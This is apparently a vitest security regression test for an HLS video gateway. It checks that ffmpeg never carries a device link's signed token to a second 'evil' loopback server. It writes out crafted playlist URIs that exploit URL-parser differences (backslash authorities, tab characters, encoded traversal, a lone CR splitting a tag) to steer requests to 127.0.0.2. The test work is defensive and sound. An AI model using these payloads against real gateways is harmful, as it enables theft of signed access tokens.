// A device link's token must never reach another host through a URL-parser difference. The tokenizer judged URIs
// the WHATWG way, so `http://127.0.0.1:<gw>\@127.0.0.2:<evil>/../videos/leak/a.ts` looked like a file of the video
// and got the signed query, while ffmpeg (RFC 3986, `\` a plain character, the authority ending at the first `/`)
// sent Policy, Signature and Key-Pair-Id to 127.0.0.2. Real ffmpeg plays crafted playlists of a video folder from
// a device link (hostile URIs as segments, as variants of the link's own master playlist, as EXT-X-MAP, a lone CR
// splitting a tag) while a second loopback server records every request it receives: it is reached, and none of
// its requests carries a signed parameter; a plain playlist of the same folder still plays from the link alone.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spawn } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import { copyFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { AddressInfo } from 'node:net';
import { startNodeGateway, type RunningGateway } from '../../server/node/start.ts';
import { REPO_ROOT } from '../../server/node/load-env.ts';
import { testEnv, viewerToken } from '../helpers/targets.ts';

const ffmpeg = (url: string): Promise<{ status: number | null; stderr: string }> =>
  new Promise((resolve) => {
    const child = spawn('ffmpeg', ['-hide_banner', '-v', 'error', '-nostdin', '-i', url, '-f', 'null', '-'], {
      stdio: ['ignore', 'ignore', 'pipe'],
    });
    let stderr = '';
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    const timer = setTimeout(() => child.kill('SIGKILL'), 60_000);
    child.on('close', (status) => {
      clearTimeout(timer);
      resolve({ status, stderr });
    });
  });

const SIGNED = /Policy|Signature|Key-Pair-Id|Expires|HlsGate-Session/;

describe('a device link never hands its token to another host through a URL-parser difference (ffmpeg)', () => {
  let gw: RunningGateway;
  let evil: Server;
  let dir: string;
  const received: string[] = [];
  let gwAuthority = '';
  let evilAuthority = '';

  beforeAll(async () => {
    evil = createServer((req, res) => {
      received.push(req.url ?? '');
      res.writeHead(404).end();
    });
    await new Promise<void>((r) => evil.listen(0, '127.0.0.2', r));
    evilAuthority = `127.0.0.2:${(evil.address() as AddressInfo).port}`;
    dir = mkdtempSync(join(tmpdir(), 'hls-gate-leak-'));
    mkdirSync(join(dir, 'leak'));
    for (const f of ['init.mp4', 'seg_000.m4s', 'seg_001.m4s'])
      copyFileSync(join(REPO_ROOT, 'media', 'cmaf', f), join(dir, 'leak', f));
    for (const f of ['seg_000.ts', 'seg_001.ts'])
      copyFileSync(join(REPO_ROOT, 'media', 'ladder', '240p', f), join(dir, 'leak', f));
    writeFileSync(
      join(dir, 'catalog.json'),
      JSON.stringify({ videos: [{ id: 'leak', title: 'Leak', playlist: 'master.m3u8' }] }),
    );
    gw = await startNodeGateway(testEnv({ PORT: '0', MEDIA_DIR: dir }), { log: () => {} });
    gwAuthority = new URL(gw.url).host;
  });
  afterAll(async () => {
    await gw?.close();
    await new Promise((r) => evil?.close(r));
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  /** The hostile URIs, each also tried as EXT-X-MAP: every one reads as the video's own file to a WHATWG parser. */
  const hostile = (file: string) => [
    `http://${gwAuthority}\\@${evilAuthority}/../videos/leak/${file}`,
    `http://${gwAuthority}\\\t@${evilAuthority}/../videos/leak/${file}`,
    `http://${gwAuthority}\t\\@${evilAuthority}/../videos/leak/${file}`,
    `http://${gwAuthority}\\@${evilAuthority}/%2e%2e/videos/leak/${file}`,
    `http:\\\\${gwAuthority}\\@${evilAuthority}/../videos/leak/${file}`,
  ];

  const link = async () => {
    const res = await fetch(`${gw.url}/api/videos/leak/device-link`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${await viewerToken('*')}` },
    });
    expect(res.status).toBe(200);
    return ((await res.json()) as { url: string }).url;
  };

  const play = async (name: string, text: string) => {
    writeFileSync(join(dir, 'leak', name), text);
    const url = (await link()).replace('/master.m3u8?', `/${name}?`);
    const playlist = await fetch(url);
    expect(playlist.status).toBe(200);
    await playlist.arrayBuffer();
    await ffmpeg(url);
  };

  it('segments: ffmpeg sends no signed parameter to the second server; a plain playlist still plays', async () => {
    const lines = ['#EXTM3U', '#EXT-X-VERSION:3', '#EXT-X-TARGETDURATION:2', '#EXT-X-MEDIA-SEQUENCE:0'];
    hostile('a.ts').forEach((u) => lines.push('#EXTINF:2.0,', u));
    // A lone CR ends a line for ffmpeg, and is nothing at all to a WHATWG parser: the tag's URI becomes the tail of
    // a segment line naming the other host.
    lines.push(
      `#EXT-X-PRELOAD-HINT:TYPE=PART\r#EXTINF:2.0,\r//${evilAuthority}/videos/leak/cr.ts,URI="seg_000.ts",X=a.ts`,
    );
    lines.push('#EXTINF:2.0,', 'seg_001.ts', '#EXT-X-ENDLIST', '');
    const before = received.length;
    await play('ts.m3u8', lines.join('\n'));
    // The playlist really made ffmpeg go there, once per hostile URI (so the check below is not vacuous) ...
    expect(received.length - before).toBeGreaterThanOrEqual(hostile('a.ts').length + 1);
    // ... and it never carried the grant.
    expect(received.slice(before).filter((u) => SIGNED.test(u))).toEqual([]);

    // A plain playlist of the same folder still plays from the link alone, every file with the token.
    const text = [
      '#EXTM3U',
      '#EXT-X-VERSION:7',
      '#EXT-X-TARGETDURATION:2',
      '#EXT-X-MAP:URI="init.mp4"',
      '#EXTINF:2.0,',
      'seg_000.m4s',
      '#EXTINF:2.0,',
      `http://${gwAuthority}/videos/leak/seg_001.m4s`,
      '#EXT-X-ENDLIST',
      '',
    ].join('\n');
    writeFileSync(join(dir, 'leak', 'plain.m3u8'), text);
    const url = (await link()).replace('/master.m3u8?', '/plain.m3u8?');
    const body = await (await fetch(url)).text();
    const query = new URL(url).search.slice(1);
    expect(body).toBe(
      text
        .replace('init.mp4', `init.mp4?${query}`)
        .replace('seg_000.m4s', `seg_000.m4s?${query}`)
        .replace('seg_001.m4s', `seg_001.m4s?${query}`),
    );
    const r = await ffmpeg(url);
    expect(r.status, r.stderr).toBe(0);
  }, 90_000);

  it('the device link itself: a master playlist whose variants name the other host', async () => {
    writeFileSync(
      join(dir, 'leak', 'master.m3u8'),
      [
        '#EXTM3U',
        ...hostile('v.m3u8').flatMap((u, i) => [`#EXT-X-STREAM-INF:BANDWIDTH=${(i + 1) * 100000}`, u]),
        '',
      ].join('\n'),
    );
    const before = received.length;
    await ffmpeg(await link()); // the URL exactly as the device-link endpoint returned it
    expect(received.length).toBeGreaterThan(before);
    expect(received.slice(before).filter((u) => SIGNED.test(u))).toEqual([]);
  }, 90_000);

  it.each([0, 1, 2, 3, 4])(
    'EXT-X-MAP (hostile URI #%i): ffmpeg sends no signed parameter to the second server',
    async (i) => {
      const text = [
        '#EXTM3U',
        '#EXT-X-VERSION:7',
        '#EXT-X-TARGETDURATION:2',
        '#EXT-X-MEDIA-SEQUENCE:0',
        `#EXT-X-MAP:URI="${hostile('init.mp4')[i]}"`,
        '#EXTINF:2.0,',
        'seg_000.m4s',
        '#EXTINF:2.0,',
        'seg_001.m4s',
        '#EXT-X-ENDLIST',
        '',
      ].join('\n');
      const before = received.length;
      await play(`map${i}.m3u8`, text);
      expect(received.length).toBeGreaterThan(before);
      expect(received.slice(before).filter((u) => SIGNED.test(u))).toEqual([]);
    },
    90_000,
  );
});
